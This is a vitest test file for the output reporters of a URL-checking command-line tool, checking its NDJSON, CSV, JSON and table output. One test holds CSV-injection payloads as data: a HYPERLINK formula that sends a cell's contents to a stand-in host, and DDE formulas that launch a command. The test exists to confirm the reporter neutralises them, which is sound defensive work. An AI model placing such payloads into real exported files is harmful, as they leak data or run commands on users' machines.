import { PassThrough } from 'node:stream';
import { Chalk } from 'chalk';
import { describe, expect, it } from 'vitest';
import type { Comparison, DiffSummary } from '../../src/model/run.js';
import { parseTarget } from '../../src/input/targets.js';
import { redactText, redactUrl } from '../../src/util/redact.js';
import { CSV_COLUMNS, createCsvReporter, csvField, csvRow } from '../../src/reporters/csv.js';
import { combineReporters, reporters } from '../../src/reporters/index.js';
import { FORMATS } from '../../src/reporters/registry.js';
import { createJsonReporter } from '../../src/reporters/json.js';
import { createNdjsonReporter } from '../../src/reporters/ndjson.js';
import { createStderrSummaryReporter } from '../../src/reporters/summary.js';
import { createTableReporter } from '../../src/reporters/table.js';
import type { Reporter, ReporterContext, RunEnd } from '../../src/model/reporter.js';
import type { Summary } from '../../src/model/summary.js';
import type { CheckResult } from '../../src/model/types.js';
import { captureWriter, resultWith, SAMPLE_RUN_META } from '../helpers/samples.js';

const NO_COLOR = new Chalk({ level: 0 });

type Terminalish = PassThrough & { isTTY?: boolean; columns?: number };

const capture = captureWriter;

function setup(options: { quiet?: boolean; color?: InstanceType<typeof Chalk>; out?: Terminalish } = {}) {
  const out = capture(options.out);
  const err = capture();
  const color = options.color ?? NO_COLOR;
  const ctx: ReporterContext = { out: out.writer, err: err.writer, color, errColor: color, quiet: options.quiet ?? false };
  return { ctx, out: out.text, err: err.text };
}

const META = SAMPLE_RUN_META;
const result = resultWith;

const HEALTHY = result({ url: 'https://a.test/', durationMs: 12.3, line: 1 });
const QUOTED = result({ url: 'https://b.test/a,b"c', durationMs: 250, finalUrl: 'https://b.test/a,b%22c', method: 'GET', line: 2 });
const REDIRECTED = result({
  url: 'http://c.test/old',
  durationMs: 1500,
  redirects: [{ status: 301, location: 'https://c.test/new' }],
  finalUrl: 'https://c.test/new',
  line: 3,
});
const INVALID = result({
  url: 'example.com',
  ok: false,
  status: null,
  error: { code: 'INVALID_URL', message: 'not a valid URL: no scheme (did you mean "https://example.com"?)' },
  durationMs: 0,
  attempts: 0,
  finalUrl: null,
  method: null,
  line: 4,
});
const REFUSED = result({
  url: 'https://down.test/',
  ok: false,
  status: null,
  error: { code: 'CONNECTION_REFUSED', message: 'connection refused (ECONNREFUSED)' },
  durationMs: 30.5,
  attempts: 3,
  finalUrl: null,
  method: null,
  verdict: 'transient',
  line: 5,
});
const NOT_FOUND = result({
  url: 'https://a.test/missing',
  ok: false,
  status: 404,
  error: { code: 'HTTP_STATUS', message: 'HTTP 404' },
  durationMs: 8,
  line: 6,
});
/** A permanent redirect: healthy, but the list should name the new URL. */
const MOVED = result({
  url: 'http://d.test/old-home',
  durationMs: 40,
  redirects: [{ status: 301, location: 'https://d.test/home' }],
  finalUrl: 'https://d.test/home',
  verdict: 'warning',
  warnings: [{ code: 'PERMANENT_REDIRECT', message: 'moved permanently to https://d.test/home: update the list' }],
  line: 7,
});
const BLOCKED = result({
  url: 'https://e.test/',
  ok: false,
  status: 999,
  error: { code: 'HTTP_STATUS', message: 'HTTP 999' },
  durationMs: 20,
  verdict: 'blocked',
  line: 8,
});
/** Failing in the previous report, healthy now. */
const RECOVERED = result({ url: 'https://f.test/', durationMs: 5, change: 'recovered', line: 9 });
const RESULTS = [HEALTHY, QUOTED, REDIRECTED, INVALID, REFUSED, NOT_FOUND];
/** The order the checks might complete in: results arrive by completion, not by line. */
const COMPLETION_ORDER = [NOT_FOUND, HEALTHY, INVALID, REFUSED, QUOTED, REDIRECTED];

const SUMMARY: Summary = {
  total: 6,
  healthy: 3,
  ok: 3,
  unhealthy: 3,
  byCode: { CONNECTION_REFUSED: 1, HTTP_STATUS: 1, INVALID_URL: 1 },
  byStatusClass: { '2xx': 3, none: 2, '4xx': 1 },
  byVerdict: { healthy: 3, warning: 0, broken: 2, transient: 1, blocked: 0 },
  byWarning: {},
  retried: 1,
  redirected: 1,
  latencyMs: { p50: 30.4, p95: 1500, max: 1500 },
  wallMs: 2000,
  urlsPerSecond: 3,
  interrupted: false,
};

const COMPARISON: Comparison = {
  concurrency: 10,
  targets: 6,
  sampleSize: 6,
  estimated: false,
  concurrentMs: 1600,
  sequentialMs: 1800.8,
  sequentialMeasuredMs: 1800.8,
  speedup: 1.13,
  idealSpeedup: 1.2,
  efficiency: 0.938,
  disagreements: 0,
};

const ALL_HEALTHY_SUMMARY: Summary = {
  ...SUMMARY,
  total: 2,
  healthy: 2,
  unhealthy: 0,
  byCode: {},
  byStatusClass: { '2xx': 2 },
  byVerdict: { healthy: 2, warning: 0, broken: 0, transient: 0, blocked: 0 },
  retried: 0,
  redirected: 0,
  latencyMs: { p50: 12.3, p95: 250, max: 250 },
  urlsPerSecond: 1,
};

/** The run of HEALTHY, MOVED and BLOCKED. */
const MIXED_SUMMARY: Summary = {
  ...SUMMARY,
  total: 3,
  healthy: 2,
  unhealthy: 1,
  byCode: { HTTP_STATUS: 1 },
  byStatusClass: { '2xx': 2, '9xx': 1 },
  byVerdict: { healthy: 1, warning: 1, broken: 0, transient: 0, blocked: 1 },
  byWarning: { PERMANENT_REDIRECT: 1 },
  retried: 0,
};

const DIFF: DiffSummary = { previous: 'last.json', newlyFailing: 1, recovered: 1, stillFailing: 1, gone: 0 };

/** The run of NOT_FOUND (new), HEALTHY, RECOVERED and REFUSED (still failing). */
const DIFF_SUMMARY: Summary = {
  ...SUMMARY,
  total: 4,
  healthy: 2,
  unhealthy: 2,
  byCode: { CONNECTION_REFUSED: 1, HTTP_STATUS: 1 },
  byVerdict: { healthy: 2, warning: 0, broken: 1, transient: 1, blocked: 0 },
  retried: 0,
  redirected: 0,
  urlsPerSecond: 2,
};

const SUMMARY_LINES = [
  '✔ 3 healthy  ✖ 2 broken  ↻ 1 transient  of 6 URLs in 2.00 s (3 URLs/s)',
  '  unhealthy by code: CONNECTION_REFUSED 1 · HTTP_STATUS 1 · INVALID_URL 1',
  '  latency: p50 30 ms · p95 1.50 s · max 1.50 s',
  '  redirected 1 · retried 1',
  '  speed-up: 1.1× at concurrency 10: 1.60 s vs 1.80 s sequential (6 URLs one by one took 1.80 s; ideal 1.2×, efficiency 94%)',
];

/** Drives a reporter through a run the way runChecks does, waiting where a hook asks to. */
async function run(reporter: Reporter, results: CheckResult[], end: RunEnd = { summary: SUMMARY, comparison: COMPARISON, diff: null }) {
  await reporter.onRunStart?.(META);
  for (const r of results) await reporter.onResult?.(r);
  await reporter.onRunEnd?.(end);
}

describe('ndjson reporter', () => {
  it('writes one JSON object per line, in completion order, and nothing else', async () => {
    const { ctx, out, err } = setup();
    await run(createNdjsonReporter(ctx), [NOT_FOUND, QUOTED]);
    expect(await out()).toBe(
      '{"url":"https://a.test/missing","ok":false,"status":404,"error":{"code":"HTTP_STATUS","message":"HTTP 404"},"startMs":0,"durationMs":8,"attempts":1,"redirects":[],"finalUrl":"https://a.test/missing","method":"HEAD","verdict":"broken","warnings":[],"timings":null,"tls":null,"source":"list.txt","line":6}\n' +
        '{"url":"https://b.test/a,b\\"c","ok":true,"status":200,"error":null,"startMs":0,"durationMs":250,"attempts":1,"redirects":[],"finalUrl":"https://b.test/a,b%22c","method":"GET","verdict":"healthy","warnings":[],"timings":null,"tls":null,"source":"list.txt","line":2}\n',
    );
    expect(await err()).toBe('');
  });

  it('round-trips every result', async () => {
    const { ctx, out } = setup();
    await run(createNdjsonReporter(ctx), COMPLETION_ORDER);
    const lines = (await out()).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line) as CheckResult)).toEqual(COMPLETION_ORDER);
  });

  it('writes nothing for no results', async () => {
    const { ctx, out } = setup();
    await run(createNdjsonReporter(ctx), []);
    expect(await out()).toBe('');
  });
});

describe('csv reporter', () => {
  it('writes a header row and RFC 4180 rows with CRLF, quoting commas and doubling quotes', async () => {
    const { ctx, out, err } = setup();
    await run(createCsvReporter(ctx), RESULTS);
    expect(await out()).toBe(
      [
        'url,ok,status,error_code,error_message,duration_ms,attempts,redirects,final_url,method,source,line,verdict,warnings,first_byte_ms,cert_days_left,change,start_ms',
        'https://a.test/,true,200,,,12.3,1,0,https://a.test/,HEAD,list.txt,1,healthy,,,,,0',
        '"https://b.test/a,b""c",true,200,,,250,1,0,"https://b.test/a,b%22c",GET,list.txt,2,healthy,,,,,0',
        'http://c.test/old,true,200,,,1500,1,1,https://c.test/new,HEAD,list.txt,3,healthy,,,,,0',
        'example.com,false,,INVALID_URL,"not a valid URL: no scheme (did you mean ""https://example.com""?)",0,0,0,,,list.txt,4,broken,,,,,0',
        'https://down.test/,false,,CONNECTION_REFUSED,connection refused (ECONNREFUSED),30.5,3,0,,,list.txt,5,transient,,,,,0',
        'https://a.test/missing,false,404,HTTP_STATUS,HTTP 404,8,1,0,https://a.test/missing,HEAD,list.txt,6,broken,,,,,0',
        '',
      ].join('\r\n'),
    );
    expect(await err()).toBe('');
  });

  it('writes only the header for no results', async () => {
    const { ctx, out } = setup();
    await run(createCsvReporter(ctx), []);
    expect(await out()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('quotes fields only when they need it', () => {
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(true)).toBe('true');
    expect(csvField(0)).toBe('0');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField("it's; fine")).toBe("it's; fine");
  });

  // OWASP's CSV injection rule: a spreadsheet runs a cell that starts with = + - @ (or a tab or
  // CR before one), so such text gets a leading ' (shown, not run) and is quoted.
  it.each([
    ['=', '=HYPERLINK("http://evil.test/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.test/?""&A1,""click"")"'],
    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-', '-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['CR', '\r=1+1', `"'\r=1+1"`],
  ])('neutralises a text field that starts with %s', (_char, text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('leaves numbers alone, and text with a formula character further in', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
  });

  it('neutralises every text column a list or a server fills: url, message, final URL, source', () => {
    const row = csvRow(
      result({ url: '=1+1', ok: false, error: { code: 'INVALID_URL', message: '@x' }, finalUrl: '+y', source: '-z.txt', line: 2, verdict: 'broken' }),
    );
    expect(row).toBe(`"'=1+1",false,200,INVALID_URL,"'@x",10,1,0,"'+y",HEAD,"'-z.txt",2,broken,,,,,0\r\n`);
  });

  it('has one field per column in every row', () => {
    const row = csvRow(result({ url: 'https://x.test/', line: 9, source: 'a,b.txt' }));
    expect(row).toBe('https://x.test/,true,200,,,10,1,0,https://x.test/,HEAD,"a,b.txt",9,healthy,,,,,0\r\n');
    expect(CSV_COLUMNS).toHaveLength(18);
  });
});

describe('json reporter', () => {
  it('writes one JSON document, results streamed in completion order, then summary and comparison', async () => {
    const { ctx, out, err } = setup();
    await run(createJsonReporter(ctx), COMPLETION_ORDER);
    const text = await out();
    const document = JSON.parse(text) as Record<string, unknown>;
    expect(document).toEqual({
      tool: 'urlcheck',
      version: '1.2.3',
      startedAt: '2024-05-01T12:00:00.000Z',
      results: COMPLETION_ORDER,
      summary: SUMMARY,
      comparison: COMPARISON,
      diff: null,
    });
    expect(Object.keys(document)).toEqual(['tool', 'version', 'startedAt', 'results', 'summary', 'comparison', 'diff']);
    // One result per line, so the document streams and diffs well.
    expect(text.split('\n')).toHaveLength(COMPLETION_ORDER.length + 6);
    expect(await err()).toBe('');
  });

  it('writes this exact text', async () => {
    const { ctx, out } = setup();
    await run(createJsonReporter(ctx), [HEALTHY, INVALID], { summary: SUMMARY, comparison: null, diff: null });
    expect(await out()).toBe(
      '{"tool":"urlcheck","version":"1.2.3","startedAt":"2024-05-01T12:00:00.000Z","results":[\n' +
        '{"url":"https://a.test/","ok":true,"status":200,"error":null,"startMs":0,"durationMs":12.3,"attempts":1,"redirects":[],"finalUrl":"https://a.test/","method":"HEAD","verdict":"healthy","warnings":[],"timings":null,"tls":null,"source":"list.txt","line":1},\n' +
        '{"url":"example.com","ok":false,"status":null,"error":{"code":"INVALID_URL","message":"not a valid URL: no scheme (did you mean \\"https://example.com\\"?)"},"startMs":0,"durationMs":0,"attempts":0,"redirects":[],"finalUrl":null,"method":null,"verdict":"broken","warnings":[],"timings":null,"tls":null,"source":"list.txt","line":4}\n' +
        '],\n' +
        `"summary":${JSON.stringify(SUMMARY)},\n` +
        '"comparison":null,\n' +
        '"diff":null}\n',
    );
  });

  it('writes a valid document with an empty results array when there are no results', async () => {
    const { ctx, out } = setup();
    const empty: Summary = { ...SUMMARY, total: 0, healthy: 0, unhealthy: 0, byCode: {}, byStatusClass: {}, latencyMs: null };
    await run(createJsonReporter(ctx), [], { summary: empty, comparison: null, diff: null });
    const text = await out();
    expect(text).toBe(
      `{"tool":"urlcheck","version":"1.2.3","startedAt":"2024-05-01T12:00:00.000Z","results":[],\n"summary":${JSON.stringify(empty)},\n"comparison":null,\n"diff":null}\n`,
    );
    expect(JSON.parse(text)).toMatchObject({ results: [], summary: { total: 0 }, comparison: null });
  });
});

/** The header of every table of RESULTS: the short columns as wide in each group's table, so they line up. */
const TABLE_HEAD = [
  '┌─────────────┬────────┬────────────────────┬────────┬──────────────────────────────────────────────────────────────────┐',
  '│ Verdict     │ Status │ Code               │ Time   │ URL                                                              │',
  '├─────────────┼────────┼────────────────────┼────────┼──────────────────────────────────────────────────────────────────┤',
];
const TABLE_FOOT = '└─────────────┴────────┴────────────────────┴────────┴──────────────────────────────────────────────────────────────────┘';

/** RESULTS as the table shows them: the healthy slowest first, then what needs attention in list order. */
const TABLE = [
  'Healthy URLs, slowest first:',
  ...TABLE_HEAD,
  '│ ✔ healthy   │ 200    │ OK                 │ 1.50 s │ http://c.test/old                                                │',
  '│             │        │                    │        │ → https://c.test/new (1 redirect)                                │',
  '│ ✔ healthy   │ 200    │ OK                 │ 250 ms │ https://b.test/a,b"c                                             │',
  '│ ✔ healthy   │ 200    │ OK                 │  12 ms │ https://a.test/                                                  │',
  TABLE_FOOT,
  '',
  'Needing attention, in list order:',
  ...TABLE_HEAD,
  '│ ✖ broken    │ —      │ INVALID_URL        │   0 ms │ example.com                                                      │',
  '│             │        │                    │        │ not a valid URL: no scheme (did you mean "https://example.com"?) │',
  '│             │        │                    │        │ list.txt:4                                                       │',
  '│ ↻ transient │ —      │ CONNECTION_REFUSED │  31 ms │ https://down.test/                                               │',
  '│             │        │                    │        │ connection refused (ECONNREFUSED)                                │',
  '│             │        │                    │        │ list.txt:5                                                       │',
  '│ ✖ broken    │ 404    │ HTTP_STATUS        │   8 ms │ https://a.test/missing                                           │',
  '│             │        │                    │        │ HTTP 404                                                         │',
  '│             │        │                    │        │ list.txt:6                                                       │',
  TABLE_FOOT,
  '',
];

describe('table reporter', () => {
  it('renders the healthy rows slowest first, then the rows needing attention in input order, each under a heading, then the summary', async () => {
    const { ctx, out, err } = setup();
    await run(createTableReporter(ctx), COMPLETION_ORDER);
    expect(await out()).toBe(`${[...TABLE, ...SUMMARY_LINES].join('\n')}\n`);
    expect(await err()).toBe('');
  });

  it('writes nothing before the run ends (it sorts at the end)', async () => {
    const { ctx, out } = setup();
    const reporter = createTableReporter(ctx);
    await reporter.onRunStart?.(META);
    for (const r of RESULTS) await reporter.onResult?.(r);
    expect(await out()).toBe('');
  });

  it('lists only the slowest healthy rows beyond the limit, and says how many are not listed', async () => {
    const { ctx, out } = setup();
    const healthy = [40, 5, 30, 1, 20].map((durationMs, i) => result({ url: `https://h${i + 1}.test/`, durationMs, line: i + 1 }));
    await run(createTableReporter(ctx, { healthy: 2, attention: 1000 }), [...healthy, NOT_FOUND], {
      summary: {
        ...SUMMARY,
        total: 6,
        healthy: 5,
        unhealthy: 1,
        byCode: { HTTP_STATUS: 1 },
        byVerdict: { healthy: 5, warning: 0, broken: 1, transient: 0, blocked: 0 },
        retried: 0,
        redirected: 0,
      },
      comparison: null,
      diff: null,
    });
    expect(await out()).toBe(
      [
        'The 2 slowest healthy URLs, slowest first:',
        '┌───────────┬────────┬─────────────┬───────┬────────────────────────┐',
        '│ Verdict   │ Status │ Code        │ Time  │ URL                    │',
        '├───────────┼────────┼─────────────┼───────┼────────────────────────┤',
        '│ ✔ healthy │ 200    │ OK          │ 40 ms │ https://h1.test/       │',
        '│ ✔ healthy │ 200    │ OK          │ 30 ms │ https://h3.test/       │',
        '└───────────┴────────┴─────────────┴───────┴────────────────────────┘',
        '',
        'Needing attention, in list order:',
        '┌───────────┬────────┬─────────────┬───────┬────────────────────────┐',
        '│ Verdict   │ Status │ Code        │ Time  │ URL                    │',
        '├───────────┼────────┼─────────────┼───────┼────────────────────────┤',
        '│ ✖ broken  │ 404    │ HTTP_STATUS │  8 ms │ https://a.test/missing │',
        '│           │        │             │       │ HTTP 404               │',
        '│           │        │             │       │ list.txt:6             │',
        '└───────────┴────────┴─────────────┴───────┴────────────────────────┘',
        '',
        '3 healthy URLs not listed (the 2 slowest are); use --format csv or ndjson for every row',
        '✔ 5 healthy  ✖ 1 broken  of 6 URLs in 2.00 s (3 URLs/s)',
        '  unhealthy by code: HTTP_STATUS 1',
        '  latency: p50 30 ms · p95 1.50 s · max 1.50 s',
        '',
      ].join('\n'),
    );
  });

  it('keeps the slowest healthy rows whatever order they arrive in, and lists them slowest first', async () => {
    const { ctx, out } = setup();
    const durations = [3, 99, 7, 50, 1, 98, 2, 97, 4];
    const healthy = durations.map((durationMs, i) => result({ url: `https://h${i + 1}.test/`, durationMs, line: i + 1 }));
    await run(createTableReporter(ctx, { healthy: 3, attention: 1000 }), healthy, { summary: ALL_HEALTHY_SUMMARY, comparison: null, diff: null });
    const listed = (await out()).match(/https:\/\/h\d+\.test\//g);
    expect(listed).toEqual(['https://h2.test/', 'https://h6.test/', 'https://h8.test/']);
    expect(await out()).toMatch(/^The 3 slowest healthy URLs, slowest first:\n/);
  });

  it('lists unhealthy rows up to their limit and counts the rest', async () => {
    const { ctx, out } = setup();
    await run(createTableReporter(ctx, { healthy: 25, attention: 2 }), [REFUSED, NOT_FOUND, INVALID], {
      summary: SUMMARY,
      comparison: null,
      diff: null,
    });
    const text = await out();
    expect(text).toContain('https://down.test/');
    expect(text).toContain('https://a.test/missing');
    expect(text).not.toContain('example.com');
    expect(text).toContain('\n1 more URL needing attention not listed; use --format csv or ndjson for every row\n');
  });

  it('joins both notes when rows of both kinds are left out', async () => {
    const { ctx, out } = setup();
    await run(createTableReporter(ctx, { healthy: 1, attention: 1 }), RESULTS, { summary: SUMMARY, comparison: null, diff: null });
    expect(await out()).toContain(
      '\n2 more URLs needing attention not listed; 2 healthy URLs not listed (the 1 slowest are); use --format csv or ndjson for every row\n',
    );
  });

  it('with --quiet, prints nothing at all when every URL is healthy', async () => {
    const { ctx, out, err } = setup({ quiet: true });
    await run(createTableReporter(ctx), [HEALTHY, QUOTED], { summary: ALL_HEALTHY_SUMMARY, comparison: null, diff: null });
    expect(await out()).toBe('');
    expect(await err()).toBe('');
  });

  it('with --quiet, prints only the unhealthy rows and the summary, with no note about healthy rows', async () => {
    const { ctx, out } = setup({ quiet: true });
    await run(createTableReporter(ctx, { healthy: 1, attention: 1000 }), COMPLETION_ORDER, { summary: SUMMARY, comparison: null, diff: null });
    expect(await out()).toBe(
      [
        'Needing attention, in list order:',
        '┌─────────────┬────────┬────────────────────┬───────┬──────────────────────────────────────────────────────────────────┐',
        '│ Verdict     │ Status │ Code               │ Time  │ URL                                                              │',
        '├─────────────┼────────┼────────────────────┼───────┼──────────────────────────────────────────────────────────────────┤',
        '│ ✖ broken    │ —      │ INVALID_URL        │  0 ms │ example.com                                                      │',
        '│             │        │                    │       │ not a valid URL: no scheme (did you mean "https://example.com"?) │',
        '│             │        │                    │       │ list.txt:4                                                       │',
        '│ ↻ transient │ —      │ CONNECTION_REFUSED │ 31 ms │ https://down.test/                                               │',
        '│             │        │                    │       │ connection refused (ECONNREFUSED)                                │',
        '│             │        │                    │       │ list.txt:5                                                       │',
        '│ ✖ broken    │ 404    │ HTTP_STATUS        │  8 ms │ https://a.test/missing                                           │',
        '│             │        │                    │       │ HTTP 404                                                         │',
        '│             │        │                    │       │ list.txt:6                                                       │',
        '└─────────────┴────────┴────────────────────┴───────┴──────────────────────────────────────────────────────────────────┘',
        '',
        ...SUMMARY_LINES.slice(0, 4),
        '',
      ].join('\n'),
    );
  });

  it('prints only the summary when there are no rows', async () => {
    const { ctx, out } = setup();
    const empty: Summary = {
      ...SUMMARY,
      total: 0,
      healthy: 0,
      unhealthy: 0,
      byCode: {},
      byStatusClass: {},
      byVerdict: { healthy: 0, warning: 0, broken: 0, transient: 0, blocked: 0 },
      latencyMs: null,
      retried: 0,
      redirected: 0,
      urlsPerSecond: 0,
    };
    await run(createTableReporter(ctx), [], { summary: empty, comparison: null, diff: null });
    expect(await out()).toBe('✔ 0 healthy  of 0 URLs in 2.00 s (0 URLs/s)\n');
  });

  it('colours status classes when colour is on', async () => {
    const { ctx, out } = setup({ color: new Chalk({ level: 1 }) });
    await run(createTableReporter(ctx), RESULTS);
    const text = await out();
    expect(text).toContain('\u001b[32m200\u001b[39m');
    expect(text).toContain('\u001b[33m404\u001b[39m');
    expect(text).toContain('\u001b[31mCONNECTION_REFUSED\u001b[39m');
  });

  it.each([[null], ['newly-failing' as const]])('keeps a URL longer than the terminal whole, on a line of its own, without cutting colour codes apart (change: %s)', async (change) => {
    const tty = Object.assign(new PassThrough(), { isTTY: true, columns: 80 });
    const { ctx, out } = setup({ out: tty, color: new Chalk({ level: 1 }) });
    const long = result({
      url: `https://long.test/${'p'.repeat(150)}`,
      ok: false,
      status: null,
      error: { code: 'UNSUPPORTED_PROTOCOL', message: 'unsupported protocol "ftp:"; only http: and https: URLs are checked' },
      change,
      line: 7,
    });
    const diff = change === null ? null : DIFF;
    await run(createTableReporter(ctx), [long, HEALTHY, REFUSED, MOVED], { summary: SUMMARY, comparison: null, diff });
    const lines = (await out()).split('\n').map((line) => line.replace(/\u001b\[\d+(;\d+)*m/g, ''));
    // No table row could hold it: one block per result, and the URL whole on one line.
    expect(lines.some((line) => /[┌│└]/.test(line))).toBe(false);
    expect(lines).toContain(long.url);
    for (const line of lines) {
      expect(line).not.toContain('\u001b');
      if (line !== long.url) expect([...line].length, line).toBeLessThanOrEqual(80);
    }
    expect(lines).toContain('  unsupported protocol "ftp:"; only http: and https: URLs are checked');
  });

  it('lists warnings as needing attention, with their codes and what to do about them', async () => {
    const { ctx, out } = setup();
    await run(createTableReporter(ctx), [BLOCKED, MOVED, HEALTHY], { summary: MIXED_SUMMARY, comparison: null, diff: null });
    expect(await out()).toBe(
      [
        'Healthy URLs, slowest first:',
        '┌───────────┬────────┬────────────────────┬───────┬───────────────────────────────────────────────────────────┐',
        '│ Verdict   │ Status │ Code               │ Time  │ URL                                                       │',
        '├───────────┼────────┼────────────────────┼───────┼───────────────────────────────────────────────────────────┤',
        '│ ✔ healthy │ 200    │ OK                 │ 12 ms │ https://a.test/                                           │',
        '└───────────┴────────┴────────────────────┴───────┴───────────────────────────────────────────────────────────┘',
        '',
        'Needing attention, in list order:',
        '┌───────────┬────────┬────────────────────┬───────┬───────────────────────────────────────────────────────────┐',
        '│ Verdict   │ Status │ Code               │ Time  │ URL                                                       │',
        '├───────────┼────────┼────────────────────┼───────┼───────────────────────────────────────────────────────────┤',
        '│ ⚠ warning │ 200    │ PERMANENT_REDIRECT │ 40 ms │ http://d.test/old-home                                    │',
        '│           │        │                    │       │ → https://d.test/home (1 redirect)                        │',
        '│           │        │                    │       │ moved permanently to https://d.test/home: update the list │',
        '│           │        │                    │       │ list.txt:7                                                │',
        '│ ⊘ blocked │ 999    │ HTTP_STATUS        │ 20 ms │ https://e.test/                                           │',
        '│           │        │                    │       │ HTTP 999                                                  │',
        '│           │        │                    │       │ list.txt:8                                                │',
        '└───────────┴────────┴────────────────────┴───────┴───────────────────────────────────────────────────────────┘',
        '',
        '✔ 1 healthy  ⚠ 1 warning  ⊘ 1 blocked  of 3 URLs in 2.00 s (3 URLs/s)',
        '  unhealthy by code: HTTP_STATUS 1',
        '  warnings: PERMANENT_REDIRECT 1',
        '  latency: p50 30 ms · p95 1.50 s · max 1.50 s',
        '  redirected 1 · retried 0',
        '',
      ].join('\n'),
    );
  });

  it('with --quiet, prints a run whose only finding is a warning', async () => {
    const { ctx, out } = setup({ quiet: true });
    const summary: Summary = {
      ...MIXED_SUMMARY,
      total: 2,
      healthy: 2,
      unhealthy: 0,
      byCode: {},
      byVerdict: { healthy: 1, warning: 1, broken: 0, transient: 0, blocked: 0 },
    };
    await run(createTableReporter(ctx), [HEALTHY, MOVED], { summary, comparison: null, diff: null });
    const text = await out();
    expect(text).toContain('│ ⚠ warning │ 200    │ PERMANENT_REDIRECT │ 40 ms │ http://d.test/old-home');
    expect(text).not.toContain('https://a.test/');
    expect(text).toContain('\n✔ 1 healthy  ⚠ 1 warning  of 2 URLs in 2.00 s (3 URLs/s)\n');
  });

  it('with a diff, marks new and recovered rows, lists them last, and says what changed', async () => {
    const { ctx, out } = setup();
    const results = [{ ...NOT_FOUND, change: 'newly-failing' as const }, HEALTHY, RECOVERED, { ...REFUSED, change: 'still-failing' as const }];
    await run(createTableReporter(ctx), results, { summary: DIFF_SUMMARY, comparison: null, diff: DIFF });
    expect(await out()).toBe(
      [
        'Healthy URLs, slowest first:',
        '┌─────────────┬────────┬────────────────────┬───────┬───────────────────────────────────┐',
        '│ Verdict     │ Status │ Code               │ Time  │ URL                               │',
        '├─────────────┼────────┼────────────────────┼───────┼───────────────────────────────────┤',
        '│ ✔ healthy   │ 200    │ OK                 │ 12 ms │ https://a.test/                   │',
        '└─────────────┴────────┴────────────────────┴───────┴───────────────────────────────────┘',
        '',
        'Needing attention, in list order:',
        '┌─────────────┬────────┬────────────────────┬───────┬───────────────────────────────────┐',
        '│ Verdict     │ Status │ Code               │ Time  │ URL                               │',
        '├─────────────┼────────┼────────────────────┼───────┼───────────────────────────────────┤',
        '│ ↻ transient │ —      │ CONNECTION_REFUSED │ 31 ms │ https://down.test/                │',
        '│             │        │                    │       │ connection refused (ECONNREFUSED) │',
        '│             │        │                    │       │ list.txt:5                        │',
        '└─────────────┴────────┴────────────────────┴───────┴───────────────────────────────────┘',
        '',
        'Changed since last.json:',
        '┌─────────────┬────────┬────────────────────┬───────┬───────────────────────────────────┐',
        '│ Verdict     │ Status │ Code               │ Time  │ URL                               │',
        '├─────────────┼────────┼────────────────────┼───────┼───────────────────────────────────┤',
        '│ ✖ broken    │ 404    │ HTTP_STATUS        │  8 ms │ https://a.test/missing            │',
        '│ NEW         │        │                    │       │ HTTP 404                          │',
        '│             │        │                    │       │ list.txt:6                        │',
        '│ ✔ healthy   │ 200    │ OK                 │  5 ms │ https://f.test/                   │',
        '│ RECOVERED   │        │                    │       │                                   │',
        '└─────────────┴────────┴────────────────────┴───────┴───────────────────────────────────┘',
        '',
        '✔ 2 healthy  ✖ 1 broken  ↻ 1 transient  of 4 URLs in 2.00 s (2 URLs/s)',
        '  since last.json: 1 newly failing · 1 recovered · 1 still failing',
        '  unhealthy by code: CONNECTION_REFUSED 1 · HTTP_STATUS 1',
        '  latency: p50 30 ms · p95 1.50 s · max 1.50 s',
        '',
      ].join('\n'),
    );
  });

  it('with a diff and --quiet, prints only the changed rows and the diff line', async () => {
    const { ctx, out } = setup({ quiet: true });
    const results = [{ ...NOT_FOUND, change: 'newly-failing' as const }, HEALTHY, RECOVERED, { ...REFUSED, change: 'still-failing' as const }, MOVED];
    await run(createTableReporter(ctx), results, { summary: DIFF_SUMMARY, comparison: null, diff: DIFF });
    expect(await out()).toBe(
      [
        'Changed since last.json:',
        '┌───────────┬────────┬─────────────┬──────┬────────────────────────┐',
        '│ Verdict   │ Status │ Code        │ Time │ URL                    │',
        '├───────────┼────────┼─────────────┼──────┼────────────────────────┤',
        '│ ✖ broken  │ 404    │ HTTP_STATUS │ 8 ms │ https://a.test/missing │',
        '│ NEW       │        │             │      │ HTTP 404               │',
        '│           │        │             │      │ list.txt:6             │',
        '│ ✔ healthy │ 200    │ OK          │ 5 ms │ https://f.test/        │',
        '│ RECOVERED │        │             │      │                        │',
        '└───────────┴────────┴─────────────┴──────┴────────────────────────┘',
        '',
        'since last.json: 1 newly failing · 1 recovered · 1 still failing',
        '',
      ].join('\n'),
    );
  });

  it('with a diff and --quiet, prints nothing at all when nothing changed, however much is still failing', async () => {
    const { ctx, out, err } = setup({ quiet: true });
    const still = [REFUSED, NOT_FOUND, INVALID].map((r) => ({ ...r, change: 'still-failing' as const }));
    const diff: DiffSummary = { ...DIFF, newlyFailing: 0, recovered: 0, stillFailing: 3, gone: 2 };
    await run(createTableReporter(ctx), [...still, MOVED, HEALTHY], { summary: SUMMARY, comparison: null, diff });
    expect(await out()).toBe('');
    expect(await err()).toBe('');
  });

  it('with a diff and --quiet, says when the run was interrupted', async () => {
    const { ctx, out } = setup({ quiet: true });
    await run(createTableReporter(ctx), [RECOVERED], { summary: { ...DIFF_SUMMARY, total: 1, interrupted: true }, comparison: null, diff: { ...DIFF, newlyFailing: 0, stillFailing: 0, gone: 4 } });
    expect((await out()).split('\n').slice(-3)).toEqual([
      'since last.json: 0 newly failing · 1 recovered · 0 still failing · 4 failing before, not checked now',
      '  interrupted: only the 1 URL above was checked',
      '',
    ]);
  });

